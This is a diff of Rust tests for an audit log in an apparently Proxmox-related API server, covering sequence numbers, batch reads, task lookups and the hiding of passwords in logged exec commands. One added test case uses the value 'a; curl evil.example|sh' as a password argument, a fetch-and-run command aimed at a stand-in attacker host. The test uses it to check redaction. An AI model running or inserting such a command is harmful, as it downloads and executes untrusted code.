@@ -60,7 +60,8 @@ fn read_is_one_line_with_caller_address_and_transport() {
     let lines = lines_of_one_call(&server, 0, 1);
     assert_eq!(events(&lines), ["call"]);
     for (member, value) in [
-        ("seq", json!(1)),
+        // Before it, the list of the nodes was looked up.
+        ("seq", json!(2)),
         ("client", json!("reader")),
         ("address", json!("127.0.0.1")),
         ("transport", json!("http")),
@@ -125,14 +126,14 @@ fn reads_of_prompts_resources_and_completions_are_look_ups_of_their_caller() {
 fn batch_of_reads_has_one_line_per_read_with_one_id() {
     let node = start_node();
     let server = ProgramServer::start_lab(&node, &json!({}));
-    let paths = ["/version", CONFIG, "/nodes/pve2/qemu/101/config", "/nodes/pve9/status"];
+    let paths = ["/version", CONFIG, "/nodes/pve2/qemu/101/config", "/nodes/pve1/qemu/109/config"];
     server.call(READER, "proxmox_api_get", json!({"paths": paths}));
     let lines = lines_of_one_call(&server, 0, paths.len());
     assert_eq!(lines.len(), paths.len());
     for path in paths {
         let line = lines.iter().find(|line| line["operation"] == format!("GET {path}")).expect(path);
         let failed = line["outcome"].as_str().unwrap().starts_with("failed: ");
-        assert_eq!(failed, path.contains("pve9"), "{line}");
+        assert_eq!(failed, path.contains("109"), "{line}");
     }
     server.call(READER, "proxmox_api_get", json!({"path": "/version"}));
     assert_ne!(server.wait_for_lines(5)[4]["id"], lines[0]["id"]);
@@ -195,7 +196,20 @@ fn what_was_sent_can_be_proved() {
         (
             format!("{agent}/exec"),
             json!({"command": ["sh", "-c", script], "input-data": "--password=x"}),
-            json!({"command": json!(["sh", "-c", script]).to_string(), "input-data": "--password=x"}),
+            json!({"command": json!(["sh", "-c", script]).to_string(),
+                "input-data": format!("--password=(hidden) (12 bytes, SHA-256 {})", sha256("--password=x"))}),
+        ),
+        // A password in one is hidden if it is a word. A text that may be a command is not.
+        (
+            format!("{agent}/exec"),
+            json!({"command": ["curl", "-u", "me:hunter2", "https://x/"]}),
+            json!({"command": format!("[\"curl\",\"-u\",\"me:(hidden)\",\"https://x/\"] (39 bytes, SHA-256 {})",
+                sha256(r#"["curl","-u","me:hunter2","https://x/"]"#))}),
+        ),
+        (
+            format!("{agent}/exec"),
+            json!({"command": ["x", "--password", "'a; curl evil.example|sh'"]}),
+            json!({"command": r#"["x","--password","'a; curl evil.example|sh'"]"#}),
         ),
         (
             format!("{agent}/file-write"),
@@ -259,9 +273,13 @@ fn search_for_a_task_is_one_record_for_each_cluster() {
     let server = ProgramServer::builder(&configuration).audit_file().start();
     let said = server.call(READER, "wait_for_task", json!({"upid": UPID, "timeout": 5}));
     assert!(said["result"]["content"][0]["text"].as_str().is_some_and(|text| text.contains("no such task")), "{said}");
-    eventually("both lines", || server.all_lines().len() >= 2);
+    // Each cluster says which nodes it has, and whether it knows the task.
+    eventually("all lines", || server.all_lines().len() >= 4);
     let lines = server.all_lines();
-    assert_eq!(events(&lines), ["look", "look"], "{lines:?}");
+    assert_eq!(events(&lines), ["look"; 4], "{lines:?}");
+    let about_task =
+        lines.iter().filter(|line| line["operation"].as_str().is_some_and(|text| text.contains("/tasks/")));
+    assert_eq!(about_task.count(), 2, "{lines:?}");
     let probes = node.requests().iter().filter(|request| request.path().contains("/tasks/")).count();
     assert!(probes > 2, "{probes} probes");
     server.verify_audit_log();
@@ -413,7 +431,9 @@ fn eight_clients_in_parallel_write_one_chain() {
         let begun = lines.iter().find(begins).unwrap_or_else(|| panic!("no begin: {end}"));
         assert!(begun["seq"].as_u64() < end["seq"].as_u64(), "{end}");
     }
-    assert!(server.verify_audit_log().contains("160 records"), "{}", server.verify_audit_log());
+    let looks = server.all_lines().iter().filter(|line| line["event"] == "look").count();
+    let records = format!("{} records", 160 + looks);
+    assert!(server.verify_audit_log().contains(&records), "{}", server.verify_audit_log());
 }
 
 #[test]
